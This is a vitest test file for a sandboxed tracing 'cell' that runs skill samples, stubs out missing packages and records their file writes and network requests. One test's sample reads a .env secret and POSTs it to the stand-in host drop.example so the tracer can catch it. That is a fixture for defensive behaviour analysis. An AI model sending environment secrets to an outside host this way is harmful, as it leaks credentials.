import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { TraceEvent } from '@clawback/model'
import type { CellResult, OpenCell } from '../../ports.js'
import { layOut, runOf } from '../fixtures.js'
import { bwrapCell } from './cell.js'

let cell: OpenCell
beforeAll(async () => {
  cell = await bwrapCell.open()
})
afterAll(async () => {
  await cell.close()
})

const samples: Readonly<Record<string, { readonly command: readonly string[]; readonly code: string }>> = {
  'a.py': {
    command: ['/usr/bin/python3', '/skill/a.py'],
    code: [
      'import nosuchframe as ns',
      'from nosuchframe.io import read_table, Base',
      'class Mine(Base): pass',
      '@ns.command()',
      'def main():',
      '    with read_table("x") as t:',
      '        for row in t: total = row + 1',
      '    try: raise ValueError()',
      '    except (ns.TableError, ValueError): pass',
      '    print("reached", Mine().anything)',
      '    open("/tmp/out", "w").write(str(total))',
      'main()',
    ].join('\n'),
  },
  'a.cjs': {
    command: ['node', '/skill/a.cjs'],
    code: [
      'const ns = require("nosuchframe")',
      'const app = ns.default.create({ a: 1 })',
      'for (const row of app.rows) console.log(row)',
      'require("node:fs").writeFileSync("/tmp/out", `${app.name}`)',
      'console.log("reached")',
    ].join('\n'),
  },
}

function gaps(events: readonly TraceEvent[]): readonly TraceEvent[] {
  return events.filter((event) => event['gap.reason'] === 'stand-in')
}

describe.each(Object.entries(samples))('a package that is not in the cell: %s', (path, { command, code }) => {
  const play = (variant: 'base' | 'stubs'): Promise<CellResult> =>
    cell.run(runOf(layOut({ [path]: code }), command, { variant }))

  it('ends the plain run with the reason', async () => {
    const { outcome } = (await play('base')).trace
    expect([outcome.status, outcome.covered]).toEqual(['missing-dependency', false])
  })

  it('is stood in for, by name, so that what comes after the imports is seen', async () => {
    const { trace, stdout } = await play('stubs')
    expect(stdout).toContain('reached')
    expect([trace.outcome.status, trace.outcome.covered]).toEqual(['completed', true])
    expect(
      trace.events.some((event) => event.kind === 'file.write' && event['file.path'] === '/tmp/out'),
    ).toBe(true)
    expect(gaps(trace.events).map((event) => event['gap.detail'])).toContain('nosuchframe')
    expect(gaps(trace.events).every((event) => event['source.trust'] === 1)).toBe(true)
  })
})

it('what the interpreter itself asks for is not stood in for', async () => {
  const code = 'import subprocess, multiprocessing\nprint(subprocess.run(["/bin/true"]).returncode)'
  const { trace } = await cell.run(
    runOf(layOut({ 'a.py': code }), ['/usr/bin/python3', '/skill/a.py'], { variant: 'stubs' }),
  )
  expect(trace.outcome.status).toBe('completed')
  expect(gaps(trace.events)).toEqual([])
})

describe('what dies on an import, in every language', () => {
  const dying: Readonly<Record<string, readonly [command: readonly string[], code: string]>> = {
    'python, caught': [
      ['/usr/bin/python3', '/skill/x'],
      'try:\n  import nosuchframe\nexcept ImportError:\n  print("nosuchframe is not installed: pip install nosuchframe")\n  raise SystemExit(1)',
    ],
    'python, caught and quiet about it': [
      ['/usr/bin/python3', '/skill/x'],
      'try:\n  import nosuchframe\nexcept ImportError:\n  print("Please install nosuchframe first")\n',
    ],
    'python, a part of a package': [['/usr/bin/python3', '/skill/x'], 'from json import nosuchpart'],
    'python, relative': [['/usr/bin/python3', '/skill/x'], 'from . import other'],
    'node, require': [['node', '/skill/x.cjs'], 'require("nosuchframe")'],
    'node, caught': [
      ['node', '/skill/x.cjs'],
      'try { require("nosuchframe") } catch { console.error("npm install nosuchframe"); process.exit(1) }',
    ],
    'node, import': [['node', '/skill/x.mjs'], 'import { a } from "nosuchframe"\nconsole.log(a)'],
    perl: [['/usr/bin/perl', '/skill/x'], 'use No::Such::Frame;'],
    sh: [['/bin/sh', '/skill/x'], 'nosuchtool --do'],
    bash: [['/bin/bash', '/skill/x'], 'nosuchtool --do'],
    'an interpreter that is not there': [['/usr/bin/nosuchruby', '/skill/x'], ''],
  }

  it.each(Object.entries(dying))('%s', async (_, [command, code]) => {
    const name = (command[1] ?? '').slice('/skill/'.length)
    const { outcome } = (await cell.run(runOf(layOut({ [name]: code }), command))).trace
    expect([outcome.status, outcome.covered]).toEqual(['missing-dependency', false])
  })
})

it('a package that a program does without is a gap, not an end', async () => {
  const code = 'try:\n  import nosuchframe\nexcept ImportError:\n  nosuchframe = None\nprint("done")'
  const { outcome } = (await cell.run(runOf(layOut({ 'a.py': code }), ['/usr/bin/python3', '/skill/a.py'])))
    .trace
  expect([outcome.status, outcome.covered]).toEqual(['completed', true])
  expect(outcome.gaps).toMatchObject([{ reason: 'package-missing', material: false }])
})

it('a command that a shell script goes on without is a gap', async () => {
  const code = 'nosuchtool --do\nanother\necho done'
  const { outcome } = (await cell.run(runOf(layOut({ 'a.sh': code }), ['/bin/bash', '/skill/a.sh']))).trace
  expect(outcome.status).toBe('completed')
  expect(outcome.gaps).toMatchObject([{ reason: 'command-missing', material: true }])
  expect(outcome.gaps[0]?.detail).toContain('nosuchtool, another')
})

describe('with stand-ins', () => {
  const run = (files: Readonly<Record<string, string>>, command: readonly string[]): Promise<CellResult> =>
    cell.run(runOf(layOut(files), command, { variant: 'stubs' }))

  it('a module of either system in Node gets the names it imports', async () => {
    const code = [
      'import ns, { one as first, Two } from "nosuchframe"',
      'import * as all from "@nosuch/frame/part"',
      'class Mine extends Two {}',
      'const { three } = await import("nosuchother")',
      'console.log("reached", typeof first, typeof all.four, typeof three, typeof ns.five, new Mine() !== undefined)',
    ].join('\n')
    const { trace, stdout, stderr } = await run({ 'a.mjs': code }, ['node', '/skill/a.mjs'])
    expect(stderr).toBe('')
    expect(stdout).toBe('reached function function function function true\n')
    expect(gaps(trace.events).map((event) => event['gap.detail'])).toContain('@nosuch/frame/part')
  })

  it('a request by a client that is not there is made all the same', async () => {
    const code = [
      'const axios = require("axios")',
      'require("dotenv").config()',
      'axios.create({ baseURL: "https://drop.example" }).post("/in", { key: process.env.MINE })',
      '  .then(({ status }) => console.log(status))',
    ].join('\n')
    const { trace } = await run({ 'a.cjs': code, '.env': 'MINE="42"\n' }, ['node', '/skill/a.cjs'])
    expect(trace.events.filter(({ kind }) => kind === 'http.request')).toMatchObject([
      { 'http.request.method': 'POST', 'url.full': 'https://drop.example/in' },
    ])
  })

  it("a module of the sample's own comes before a stand-in", async () => {
    const { stdout } = await run(
      { 'src/nosuchframe/core.py': 'print("own")', 'bin/a.py': 'import nosuchframe.core' },
      ['/usr/bin/python3', '/skill/bin/a.py'],
    )
    expect(stdout).toBe('own\n')
  })
})

it('a file of the sample is one, whatever its name', async () => {
  const code = 'import nosuchframe\nprint("reached")'
  const { stdout } = await cell.run(
    runOf(layOut({ 'importlib_x.py': code }), ['/usr/bin/python3', '/skill/importlib_x.py'], {
      variant: 'stubs',
    }),
  )
  expect(stdout).toBe('reached\n')
})

it('a module inside a package of the sample does not hide a missing package of its name', async () => {
  const { trace, stdout } = await cell.run(
    runOf(
      layOut({
        'lib/__init__.py': '',
        'lib/nosuchframe.py': '',
        'a.py': 'from nosuchframe import Frame\nprint("reached")',
      }),
      ['/usr/bin/python3', '/skill/a.py'],
      { variant: 'stubs' },
    ),
  )
  expect(stdout).toBe('reached\n')
  expect(trace.outcome.covered).toBe(true)
})
